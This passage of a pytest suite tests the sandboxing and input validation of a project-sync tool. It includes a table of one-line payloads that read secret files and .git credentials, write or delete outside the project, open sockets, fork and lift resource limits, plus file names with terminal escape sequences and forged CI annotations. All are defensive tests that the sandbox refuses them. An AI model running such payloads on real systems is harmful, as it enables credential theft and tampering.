            "too many statically nested blocks",
        ),
        # a name holding a NUL: a missing template, not the OS call's ValueError
        ("{% include 'a\\x00b' %}", "includes 'a\\x00b', which does not exist"),
        ("{{ '\\ud800' }}", "renders text that is not Unicode"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "calls itself"),
        (  # its output is joined as it is gathered, and sized: 68 of its 100 parts
            "{% for i in range(100) %}{{ ('x' * 1000 + '\n') * 1000 }}{% endfor %}",
            "the output would make 68,068,000 characters",
        ),
        ("{{ '\U0001f600' * 17000000 }}", "renders 68,000,000 bytes, more than"),
    ],
    ids=[
        "zero-division",
        "range",
        "memory",
        "percent-width",
        "indent-filter",
        "power",
        "float",
        "attribute",
        "nested-blocks",
        "nul-include",
        "surrogate",
        "macro-recursion",
        "100-mb-output",
        "68-mb-utf-8",
    ],
)
@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync",)])
def test_a_template_whose_own_code_fails_is_named(
    repo: Path, tmp_path: Path, template: str, message: str, command: tuple[str, ...]
) -> None:
    (repo / TEMPLATES / "plain.txt.j2").write_text(template)
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "templates/orch/plain.txt.j2", message)
    assert snapshot(repo) == before


@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync",)])
def test_a_template_with_a_lone_cr_is_refused_and_the_base_keeps_its_bytes(
    repo: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    # The lone CR became LF in the rendering: `sync` rewrote the BASE's CR as LF.
    (repo / TEMPLATES / "plain.txt.j2").write_bytes(b"one\ntwo\rthree\n")
    (repo / ORCH / "plain.txt").write_bytes(b"one\ntwo\rthree\n")
    before = snapshot(repo)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(proc, "templates/orch/plain.txt.j2:2: holds a carriage return")
    assert snapshot(repo) == before


def test_a_fifo_in_place_of_a_base_file_is_refused_not_waited_on(
    repo: Path, tmp_path: Path
) -> None:
    (repo / ORCH / "plain.txt").unlink()
    os.mkfifo(repo / ORCH / "plain.txt")
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/plain.txt", "is not a regular file")


def test_a_fifo_among_the_migrations_is_not_waited_on(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    shutil.copytree(FIXTURE, root, ignore=shutil.ignore_patterns("__pycache__"))
    migrations = root / ORCH / "migrations"
    migrations.mkdir()
    os.mkfifo(migrations / "0001_initial.sql")
    manifest = root / "pyproject.toml"
    manifest.write_text(manifest.read_text() + 'migrations = "pkg/orch/migrations"\n')
    proc = run("sync-check", "--root", root, cwd=tmp_path)  # the cache digest reads it too
    assert proc.returncode == 1, proc.stderr
    assert "pkg/orch/migrations/0001_initial.sql: migrations: not a file" in proc.stdout


def test_a_file_too_big_to_read_is_named(repo: Path, tmp_path: Path) -> None:
    os.truncate(repo / ORCH / "plain.txt", 8 * 1024**3)  # sparse: no disk used
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "cannot read pkg/orch/plain.txt: too big to be read")


@pytest.mark.parametrize(
    "nested",
    ["[" * 100_000 + "]" * 100_000, "{a = " * 100_000 + "1" + "}" * 100_000],
    # Short ids: pytest puts the test's id in PYTEST_CURRENT_TEST, and an environment string
    # over 128 KiB makes every process the test starts fail with "Argument list too long".
    ids=["arrays", "inline-tables"],
)
def test_a_manifest_nested_too_deeply_is_named(repo: Path, tmp_path: Path, nested: str) -> None:
    manifest = repo / "pyproject.toml"
    manifest.write_text(manifest.read_text() + f"\n[tool.deep]\nx = {nested}\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pyproject.toml: cannot be read as TOML: nested too deeply")


@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync",)])
def test_a_manifest_of_more_pairs_than_the_bound_is_refused_at_once(
    repo: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    # Each pair's base and template are resolved on disk: 100,000 pairs ran past a minute.
    manifest = repo / "pyproject.toml"
    pair = (
        "[[tool.tac-bootstrap.sync.pairs]]\nbase = 'pkg/p{0}.txt'\ntemplate = 'orch/plain.txt.j2'\n"
    )
    text = manifest.read_text()
    more = 5_001 - text.count("[[tool.tac-bootstrap.sync.pairs]]")  # 5,001 in all
    text += "\n" + "".join(pair.format(i) for i in range(more))
    manifest.write_text(text)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert_one_error(
        proc, "pyproject.toml: [tool.tac-bootstrap.sync] pairs: 5,001 pairs, more than 5,000"
    )
    assert manifest.read_text() == text
    assert not list((repo / "pkg").glob("p*.txt"))


def _importing(module: Path) -> set[int]:
    """The running processes (not zombies) whose command line imports ``module`` for a check."""
    found = set()
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
            running = "State:\tZ" not in (entry / "status").read_text()
        except OSError:  # not a process, or gone already
            continue
        if running and b"tac_bootstrap.isolate" in cmdline and str(module).encode() in cmdline:
            found.add(int(entry.name))
    return found


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs /proc")
def test_a_process_the_models_module_forks_does_not_outlive_the_check(
    repo: Path, tmp_path: Path
) -> None:
    fork = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.closerange(0, 1024)\n"  # holds no pipe of the check: the check does not wait
        "    time.sleep(60)\n"
        "    os._exit(0)\n"
        "time.sleep(2)\n"
    )
    both(repo, "models.py", lambda text: text + fork)
    module = repo / ORCH / "models.py"
    proc = subprocess.Popen(
        [EXE, "sync-check", "--root", repo, "--no-cache"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=tmp_path,
        env={**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / ".cache")},
    )
    seen: set[int] = set()
    while proc.poll() is None:
        seen |= _importing(module)
        time.sleep(0.05)
    out, err = proc.communicate()
    if SECCOMP:  # the filter refuses the fork itself
        assert_one_error(
            subprocess.CompletedProcess(proc.args, proc.returncode, out, err),
            f"error: {ORCH}/models.py: ",
            "PermissionError",
        )
    else:
        assert proc.returncode == 0, err  # the models still agree with the schema
        assert len(seen) >= 2, seen  # the child and the process it forked
    for _ in range(50):  # killed at once; gone (or a zombie no one reaps) a moment later
        if not _importing(module):
            break
        time.sleep(0.1)
    else:
        pytest.fail(f"the process the models module forked still runs: {_importing(module)}")


def test_an_answers_file_that_is_not_a_file_is_refused(project: Path, tmp_path: Path) -> None:
    (project / ".tac-bootstrap.json").unlink()
    (project / ".tac-bootstrap.json").mkdir()
    proc = run("sync-check", "--root", project, "--no-cache", "--strict", cwd=tmp_path)
    assert_one_error(proc, ".tac-bootstrap.json is not a regular file")


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("a" * 300, "is not a safe path inside the project"),
        ("/".join(["a" * 200] * 6), "is not a safe path inside the project"),
        ("\ud800", "files: holds '\\ud800', half a character: not text"),
    ],
    ids=["name-of-300", "path-of-1205", "surrogate"],  # short: see PYTEST_CURRENT_TEST
)
@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_a_generated_file_name_no_file_system_takes_is_refused(
    project: Path, name: str, message: str, command: tuple[str, ...]
) -> None:
    edit_answers(project, lambda a: a["files"].update({name: "0" * 64}))  # type: ignore[attr-defined]
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, message)
    assert snapshot(project) == before


@pytest.mark.parametrize("command", [("sync-check", "--root", ".", "--no-cache"), ("update",)])
def test_an_answer_holding_half_a_character_is_refused(
    project: Path, command: tuple[str, ...]
) -> None:
    path = project / ".tac-bootstrap.json"
    path.write_text(path.read_text().replace('"description": "', '"description": "\\ud83d'))
    before = snapshot(project)
    proc = run(*command, cwd=project)
    assert_one_error(proc, ".tac-bootstrap.json", "data: holds '\\ud83d', half a character")
    assert snapshot(project) == before


@pytest.mark.parametrize("command", [[b"update"], [b"update", b"--dry-run"], [b"init", b"x"]])
def test_a_data_value_that_is_not_utf8_is_refused(
    project: Path, tmp_path: Path, command: list[bytes]
) -> None:
    before = snapshot(tmp_path)
    proc = subprocess.run(
        [bytes(EXE), *command, b"-d", b"description=caf\xe9"],
        capture_output=True,
        text=True,
        errors="backslashreplace",
        check=False,
        cwd=project,
        env={**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / ".cache")},
        timeout=120,
    )
    assert_one_error(proc, "--data 'description=caf\\udce9' is not UTF-8 text")
    assert snapshot(tmp_path) == before


def test_a_utf8_data_value_under_an_ascii_locale_is_read(project: Path, tmp_path: Path) -> None:
    # Under LC_ALL=C with UTF-8 mode off, Python hands the UTF-8 bytes of "ë" over as two
    # surrogates: they are UTF-8, so the value is read, not refused as "not UTF-8 text".
    proc = subprocess.run(
        [EXE, "update", "--dry-run", "--format", "json", "-d", "author=Zoë"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
        cwd=project,
        env={
            **os.environ,
            "LC_ALL": "C",
            "PYTHONUTF8": "0",
            "TAC_BOOTSTRAP_CACHE_DIR": str(tmp_path / ".cache"),
        },
        timeout=120,
    )
    assert proc.returncode == 0, (proc.returncode, proc.stdout, proc.stderr)
    assert json.loads(proc.stdout)["ok"] is True


@pytest.mark.needs_unprivileged
@pytest.mark.skipif(os.geteuid() == 0, reason="root enters folders without permissions")
@pytest.mark.parametrize("folder", ["src/my_app", "."])
def test_update_where_a_folder_cannot_be_entered_is_one_error(project: Path, folder: str) -> None:
    readme = project / "README.md"
    readme.write_text(readme.read_text() + "mine\n")
    (project / folder).chmod(0o644)
    try:
        proc = run("update", "--root", project, cwd=project.parent)
    finally:
        (project / folder).chmod(0o755)
    assert_one_error(proc, "cannot read", "Permission denied")


def test_update_json_on_exit_2_is_a_document_with_ok_false(project: Path) -> None:
    edit_answers(project, lambda a: a.update(version="0.1.x"))
    proc = script("update", "--format", "json", cwd=project)
    assert_one_error(proc, "is not a version")
    document = json.loads(proc.stdout)
    assert document["ok"] is False
    assert "is not a version" in document["error"]


def with_migrations(repo: Path) -> Path:
    """Name a migrations folder in the fixture's agreement; return the folder (empty)."""
    folder = repo / ORCH / "migrations"
    folder.mkdir()
    manifest = repo / "pyproject.toml"
    manifest.write_text(manifest.read_text() + 'migrations = "pkg/orch/migrations"\n')
    return folder


@pytest.mark.parametrize("no_cache", [True, False])
def test_a_migration_named_with_a_byte_that_is_not_utf8(
    repo: Path, tmp_path: Path, no_cache: bool
) -> None:
    folder = with_migrations(repo)
    (folder / os.fsdecode(b"\xff.sql")).write_text("PRAGMA user_version = 1;\n")
    proc = run("sync-check", "--root", repo, *(["--no-cache"] if no_cache else []), cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "/\\udcff.sql: migrations: not a migration name" in proc.stdout


def test_a_migration_value_of_a_gigabyte_is_refused(repo: Path, tmp_path: Path) -> None:
    folder = with_migrations(repo)
    (folder / "0001_blob.sql").write_text(
        "CREATE TABLE b (x); INSERT INTO b SELECT randomblob(1e9);\nPRAGMA user_version = 1;\n"
    )
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "string or blob too big" in proc.stdout


@pytest.mark.parametrize(
    ("literal", "message"),
    [
        ('"SELECT ?99999999999999999999"', "variable number must be between"),
        ('"SELECT ?100000000"', "variable number must be between"),
        ("\"SELECT '\\ud800'\"", "lone surrogate"),
    ],
    ids=["huge-number", "large-number", "surrogate"],
)
def test_a_statement_sqlite_cannot_take_is_a_problem(
    repo: Path, tmp_path: Path, literal: str, message: str
) -> None:
    both(repo, "database.py", lambda text: text + f"\nX = {literal}\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    assert message in proc.stdout


def test_a_models_module_failing_with_a_message_of_several_lines_is_one_error(
    repo: Path, tmp_path: Path
) -> None:
    surrogate_field = (
        "\nfrom pydantic import create_model\n"
        "MODELS = (create_model('Owner', __base__=Owner, **{'\\ud800': (str, 'x')}),)\n"
    )
    both(repo, "models.py", lambda text: text + surrogate_field)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "pkg/orch/models.py", "fails to import", "UnicodeEncodeError")


@pytest.mark.parametrize("name", ["a\n::warning title=forged::b.py", "\x1b[2Jcleared.py"])
def test_a_file_name_with_control_characters_cannot_forge_output_lines(
    repo: Path, tmp_path: Path, name: str
) -> None:
    (repo / ORCH / name).write_text("x = 1\n")  # an orphan: its name is reported
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert [line for line in proc.stdout.splitlines() if "orphan-base" in line] == [
        f"pkg/orch/{repr(name)[1:-1]}: orphan-base: BASE file with no template: add a pair for "
        "it to [tool.tac-bootstrap.sync] or list it in `unpaired`"
    ]
    assert not any(line.startswith("::") for line in proc.stdout.splitlines())
    assert "\x1b" not in proc.stdout


@pytest.mark.parametrize(
    "name", ["\x1b[2Jcleared.py", "a\x1b]52;c;ZWNobyBo\x07.py", "a\x0bb\x85.py"]
)
@pytest.mark.parametrize("fmt", ["github", "json"])
def test_a_file_name_with_an_escape_sequence_is_no_raw_byte_of_an_annotation(
    repo: Path, tmp_path: Path, name: str, fmt: str
) -> None:
    (repo / ORCH / name).write_text("x = 1\n")  # an orphan: its name is the annotation's file
    proc = run("sync-check", "--root", repo, "--no-cache", "--format", fmt, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert not any(c in proc.stdout for c in "\x1b\x07\x0b\x85"), proc.stdout
    if fmt == "github":
        assert f"file=pkg/orch/{repr(name)[1:-1]}," in proc.stdout
    else:
        assert {p["path"] for p in json.loads(proc.stdout)["problems"]} == {f"pkg/orch/{name}"}


def test_update_shows_a_file_name_with_a_newline_on_one_line(project: Path) -> None:
    name = "a\n::error title=forged::b.txt"
    edit_answers(project, lambda a: a["files"].update({name: "0" * 64}))  # type: ignore[attr-defined]
    (project / name).write_text("mine\n")
    proc = run("update", "--dry-run", cwd=project)
    assert "Traceback" not in proc.stderr
    assert not any(line.startswith("::") for line in (proc.stdout + proc.stderr).splitlines())


@pytest.mark.parametrize(
    "toml", ["[[tool]]\nx = 1\n", 'tool = "x"\n', '[tool]\ntac-bootstrap = "x"\n']
)
def test_a_tool_table_that_is_not_a_table_holds_no_manifest(
    repo: Path, tmp_path: Path, toml: str
) -> None:
    (repo / "pyproject.toml").write_text(toml)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "nothing to check")


@pytest.mark.parametrize("command", [("sync-check", "--no-cache"), ("sync", "--dry-run")])
def test_a_drift_of_a_hundred_thousand_interleaved_lines_is_reported_at_once(
    repo: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    lines = 100_000
    (repo / ORCH / "plain.txt").write_text("".join(f"a{i}\n" for i in range(lines)))
    # Every other line differs: difflib would take about an hour on it.
    rendered = "".join(f"b{i}\n" if i % 2 else f"a{i}\n" for i in range(lines))
    (repo / TEMPLATES / "plain.txt.j2").write_text(rendered)
    proc = run(*command, "--root", repo, cwd=tmp_path)
    assert proc.returncode in (0, 1), proc.stderr
    assert "(not shown: more than 10,000 lines; compare the files with a diff tool)" in proc.stdout


@pytest.mark.parametrize("signal_number", [15, 9])
def test_the_child_importing_the_models_ends_when_the_check_is_killed(
    repo: Path, tmp_path: Path, signal_number: int
) -> None:
    both(repo, "models.py", lambda text: text + "while True: pass\n")
    module = repo / ORCH / "models.py"
    proc = subprocess.Popen(
        [EXE, "sync-check", "--root", str(repo), "--no-cache"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=tmp_path,
        start_new_session=True,
    )
    for _ in range(100):
        if _importing(module):
            break
        time.sleep(0.1)
    else:
        pytest.fail("no child imports the models module")
    time.sleep(1.5)  # into the module's loop
    os.killpg(proc.pid, signal_number)  # as `timeout` or a CI runner does: the check's group
    proc.wait(timeout=30)
    for _ in range(50):
        if not _importing(module):
            break
        time.sleep(0.1)
    else:
        pytest.fail("the child importing the models module still runs")


# --- the child importing the checked module is confined (Linux, Landlock) ----------------


def _confinement() -> tuple[int, bool]:
    """The Landlock ABI and closed sockets a child confining itself gets here (asked in one)."""
    code = (
        "from tac_bootstrap import sandbox; c = sandbox.confine([]); "
        "print(c.landlock_abi, c.seccomp)"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    abi, seccomp = proc.stdout.split()
    return int(abi), seccomp == "True"


LANDLOCK_ABI, SECCOMP = _confinement()


@pytest.mark.skipif(
    not sys.platform.startswith("linux") or os.uname().machine not in ("x86_64", "aarch64"),
    reason="the system call filter is written for x86_64 and aarch64 Linux",
)
def test_the_system_call_filter_is_taken_by_the_kernel() -> None:
    assert SECCOMP  # a filter the kernel refuses (a jump out of it) is no filter


_IPC = (  # errno 13 from the call itself: EACCES
    "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"
    "if {call} < 0: raise PermissionError(ctypes.get_errno(), 'refused')"
)
CONFINED_ATTACKS = {
    # name: (code appended to the models module, the Landlock ABI it needs; 0: closed sockets)
    "writes beside itself": ("open(__file__ + '.pwned', 'w')", 1),
    "writes outside": ("open({outside_dir!r} + '/pwned', 'w')", 1),
    "creates a folder": ("import os; os.mkdir({outside_dir!r} + '/pwned')", 1),
    "removes a file": ("import os; os.remove({secret!r})", 1),
    "reads outside": ("raise RuntimeError(open({secret!r}).read())", 1),
    "reads the root's .git": ("raise RuntimeError(open({git_config!r}).read())", 1),
    "runs a program": ("import subprocess; subprocess.run(['true'])", 1),
    "connects to a port": ("import socket; socket.create_connection(('127.0.0.1', {port}))", 4),
    "signals the check": ("import os, signal; os.kill(os.getppid(), signal.SIGTERM)", 6),
    "connects to a Unix socket": (
        "import socket; socket.socket(socket.AF_UNIX).connect({unix_path!r})",
        0,
    ),
    "changes a file's mode": ("import os; os.chmod({secret!r}, 0)", 0),
    "changes a file's times": ("import os; os.utime({secret!r}, (0, 0))", 0),
    "changes a file's owner": ("import os; os.chown({secret!r}, 1, 1)", 0),
    "sets an extended attribute": ("import os; os.setxattr({secret!r}, 'user.x', b'1')", 0),
    "lifts its limits": (
        "import resource as r; r.setrlimit(r.RLIMIT_FSIZE, (r.RLIM_INFINITY, r.RLIM_INFINITY))",
        0,
    ),
    # as root, one socketpair held a gigabyte of kernel memory beyond the 4 GiB limit
    "lifts a socket's buffer limit": (
        "import socket; a, b = socket.socketpair(); a.setsockopt(socket.SOL_SOCKET, 32, 1 << 30)",
        0,
    ),
    "sends UDP": (
        "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))",
        0,
    ),
    # System V IPC outlives the check: shared memory left filled; those of other programs
    "creates shared memory": (_IPC.format(call="libc.shmget(0, 4096, 0o1000 | 0o600)"), 0),
    "opens a message queue": (_IPC.format(call="libc.msgget(0, 0o1000 | 0o600)"), 0),
    "opens semaphores": (_IPC.format(call="libc.semget(0, 1, 0o1000 | 0o600)"), 0),
    # a process could leave the group and outlive the check, or multiply the memory limit
    "forks": ("import os; os.fork() or os._exit(0)", 0),
}


@pytest.mark.parametrize("attack", sorted(CONFINED_ATTACKS))
def test_the_models_module_is_confined(
    repo: Path, tmp_path: Path, outside: Path, attack: str
) -> None:
    import socket
    import tempfile

    code, abi = CONFINED_ATTACKS[attack]
    if abi == 0 and not SECCOMP:
        pytest.skip("sockets are not closed here (seccomp on x86_64 and aarch64 Linux)")
    if abi > LANDLOCK_ABI and not (abi == 4 and SECCOMP):
        pytest.skip(f"needs Landlock ABI {abi}, this kernel offers {LANDLOCK_ABI}")
    git_config = repo / ".git" / "config"
    git_config.parent.mkdir()
    git_config.write_text("[http]\n\textraheader = AUTHORIZATION: basic TOP SECRET\n")
    with (
        tempfile.TemporaryDirectory(dir="/tmp") as short,  # a Unix socket path is short
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(type=socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as unix,
    ):
        udp.bind(server.getsockname())
        unix.bind(f"{short}/s")
        unix.listen()
        for listening in (server, udp, unix):
            listening.settimeout(0)
        values = {
            "outside_dir": str(outside.parent),
            "secret": str(outside),
            "git_config": str(git_config),
            "port": server.getsockname()[1],
            "unix_path": f"{short}/s",
        }
        both(repo, "models.py", lambda text: text + code.format(**values) + "\n")
        before, outside_before = snapshot(repo), snapshot(outside.parent)
        proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
        for nobody_came in (server.accept, unix.accept, lambda: udp.recv(1)):
            with pytest.raises(BlockingIOError):
                nobody_came()
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "PermissionError")
    assert "TOP SECRET" not in proc.stdout + proc.stderr
    assert (snapshot(repo), snapshot(outside.parent)) == (before, outside_before)


@pytest.mark.skipif(not SECCOMP, reason="needs the system call filter (x86_64, aarch64 Linux)")
@pytest.mark.parametrize(
    "code",
    [
        "import threading; threading.Thread(target=print).start()",
        "import asyncio; asyncio.run(asyncio.to_thread(print))",
        # a thread's fork: refused when threads were allowed, and no thread starts now
        "import os, concurrent.futures as f; f.ThreadPoolExecutor().submit(os.fork).result()",
        # thousands of small threads held as many of the machine's processes for 120 s
        "import threading, time\n"
        "threading.stack_size(32768)\n"
        "for _ in range(3000):\n"
        "    threading.Thread(target=time.sleep, args=(120,), daemon=True).start()",
    ],
    ids=["a thread", "asyncio.to_thread", "forks from a thread", "3000 threads"],
)
def test_the_models_module_starts_no_thread(repo: Path, tmp_path: Path, code: str) -> None:
    both(repo, "models.py", lambda text: text + code + "\n")
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "can't start new thread")


def confined_python(code: str, cwd: Path) -> list[str]:
    """Run ``code`` (which confines itself as the child does) in our Python; its output lines."""
    proc = subprocess.run(
        [sys.executable, "-I", "-c", code],
        capture_output=True,
        text=True,
        cwd=cwd,
        check=False,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.splitlines()


@pytest.mark.skipif(not SECCOMP, reason="needs the system call filter (x86_64, aarch64 Linux)")
def test_every_thread_of_the_child_is_confined(tmp_path: Path) -> None:
    # A thread has the filters (and Landlock domain) of the thread that started it: the one
    # that ends the child with the check was started before confining, and was free of both.
    code = (
        "import os, threading\n"
        "from pathlib import Path\n"
        "from tac_bootstrap import isolate\n"
        "lifeline, _ = os.pipe()\n"
        "isolate._confine(Path('/proc'), lifeline, os._exit)\n"
        "for task in sorted(os.listdir('/proc/self/task')):\n"
        "    status = Path(f'/proc/self/task/{task}/status').read_text()\n"
        "    print(*(line.split()[1] for line in status.splitlines()\n"
        "            if line.startswith(('NoNewPrivs:', 'Seccomp:'))))\n"
        "try:\n"
        "    threading.Thread(target=print).start()\n"
        "except RuntimeError as error:\n"
        "    print(error)\n"
    )
    assert confined_python(code, tmp_path) == ["1 2", "1 2", "can't start new thread"]


def test_an_answer_that_cannot_be_read_is_not_called_an_ended_process(
    repo: Path, tmp_path: Path
) -> None:
    # bytes written before the child's answer, on the file it keeps for it
    code = (
        "import os\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        os.write(fd, b'x')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    both(repo, "models.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "sent back no readable description")


@pytest.mark.skipif(LANDLOCK_ABI < 1, reason="needs Landlock")
def test_a_repository_the_child_imports_from_keeps_its_git_folder(tmp_path: Path) -> None:
    # An editable install's .pth puts a repository's root on sys.path: the checked project's
    # (installed in the same environment as tac-bootstrap) or tac-bootstrap's own.
    installed = tmp_path / "installed"
    (installed / ".git").mkdir(parents=True)
    (installed / ".git" / "config").write_text("[http]\n\textraheader = TOP SECRET\n")
    (installed / "its_package").mkdir()
    (installed / "its_package" / "__init__.py").write_text("VALUE = 42\n")
    module_folder = tmp_path / "checked"
    module_folder.mkdir()
    code = (
        "import os, sys\n"
        "from pathlib import Path\n"
        "from tac_bootstrap import isolate\n"
        f"sys.path.append({str(installed)!r})\n"
        f"isolate._confine(Path({str(module_folder)!r}), -1, os._exit)\n"
        "import its_package\n"
        "print(its_package.VALUE, sorted(os.listdir(sys.path[-1])))\n"
        "try:\n"
        "    print(Path(sys.path[-1], '.git', 'config').read_text())\n"
        "except PermissionError:\n"
        "    print('refused')\n"
    )
    assert confined_python(code, tmp_path) == ["42 ['.git', 'its_package']", "refused"]


@pytest.mark.skipif(not SECCOMP, reason="needs the system call filter (x86_64, aarch64 Linux)")
def test_the_models_module_leaves_no_message_queue(repo: Path, tmp_path: Path) -> None:
    import ctypes

    # The kernel made the queue before Landlock refused to open it: it outlived the check.
    name = f"/tac-bootstrap-{os.getpid()}".encode()
    code = (
        "import ctypes, os\n"
        "rt = ctypes.CDLL('librt.so.1', use_errno=True)\n"
        f"if rt.mq_open({name!r}, os.O_CREAT | os.O_RDWR, 0o600, None) < 0:\n"
        "    raise PermissionError(ctypes.get_errno(), 'refused')\n"
    )
    both(repo, "models.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    left = rt.mq_unlink(name) == 0
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "PermissionError")
    assert not left


@pytest.mark.skipif(LANDLOCK_ABI < 1, reason="needs Landlock")
def test_a_models_module_at_the_root_reads_its_siblings_but_not_git(
    repo: Path, tmp_path: Path
) -> None:
    # Its folder is the root, which holds .git: a checkout may keep its token in .git/config.
    git_config = repo / ".git" / "config"
    git_config.parent.mkdir()
    git_config.write_text("[http]\n\textraheader = AUTHORIZATION: basic TOP SECRET\n")
    (repo / "helper.py").write_text("NAME = 'sibling'\n")
    code = (
        "from .helper import NAME\n"
        "import os\n"
        "raise RuntimeError(NAME + open(os.path.join(os.path.dirname(__file__), "
        "'.git', 'config')).read())\n"
    )
    for old, new in ((ORCH / "models.py", Path("models.py")), (TEMPLATES / "models.py.j2", None)):
        text = (repo / old).read_text() + code
        if new is None:
            (repo / old).write_text(text)
        else:
            (repo / old).unlink()
            (repo / new).write_text(text)
    pyproject = repo / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('"pkg/orch/models.py"', '"models.py"'))
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, "error: models.py: ", "PermissionError")
    assert "TOP SECRET" not in proc.stdout + proc.stderr


def test_the_models_module_gets_no_environment(repo: Path, tmp_path: Path) -> None:
    """SYSTEMROOT, which Windows needs to start Python, was passed on every system."""
    code = "import os\nraise RuntimeError(repr(sorted(os.environ)))\n"
    both(repo, "models.py", lambda text: text + code)
    env = {"CI_TOKEN": "x", "SYSTEMROOT": "TOP SECRET"}
    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path, env=env)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", "RuntimeError: [")
    assert "CI_TOKEN" not in proc.stderr
    assert ("SYSTEMROOT" in proc.stderr) == (sys.platform == "win32")


@pytest.mark.skipif(
    not Path("/usr/share/zoneinfo/Europe/Paris").exists(), reason="no time zone data"
)
def test_a_confined_models_module_still_reads_its_python_and_time_zones(
    repo: Path, tmp_path: Path
) -> None:
    code = (
        "import decimal, uuid, zoneinfo, sqlite3\n"
        "PARIS = zoneinfo.ZoneInfo('Europe/Paris')\n"
        "sqlite3.connect(':memory:').execute('SELECT 1')\n"
    )
    both(repo, "models.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX resource limits")
@pytest.mark.parametrize(
    ("code", "message"),
    [
        ("import sys\nwhile True: sys.stdout.write('x' * 65536)\n", "File too large"),
        ("import os\nwhile True: os.write(2, b'x' * 65536)\n", "File too large"),
        ("x = bytearray(8 << 30)\n", "MemoryError"),
    ],
    ids=["output without end", "stderr without end", "eight GiB"],
)
def test_the_models_module_has_bounded_output_and_memory(
    repo: Path, tmp_path: Path, code: str, message: str
) -> None:
    both(repo, "models.py", lambda text: text + code)
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert_one_error(proc, f"error: {ORCH}/models.py: ", message)


def test_a_compiled_module_beside_the_models_module_is_not_what_is_checked(
    repo: Path, tmp_path: Path
) -> None:
    import importlib.util
    import py_compile

    # The models agree with the schema; an unchecked hash-based .pyc of that code is the
    # kind Python loads without a look at the source. The source then disagrees.
    models = repo / ORCH / "models.py"
    pyc = importlib.util.cache_from_source(str(models))
    py_compile.compile(
        str(models), cfile=pyc, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH
    )
    both(repo, "models.py", lambda t: t.replace("    name: str\n", "    name: int\n", 1))
    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "owners.name: the model says" in proc.stdout


def test_a_sibling_only_compiled_is_not_imported(repo: Path, tmp_path: Path) -> None:
    import py_compile

    sibling = repo / ORCH / "helpers.py"
    sibling.write_text("NAME = str\n")
    py_compile.compile(str(sibling), cfile=str(repo / ORCH / "helpers.pyc"))
    sibling.unlink()
    both(repo, "models.py", lambda t: t + "from .helpers import NAME\n")
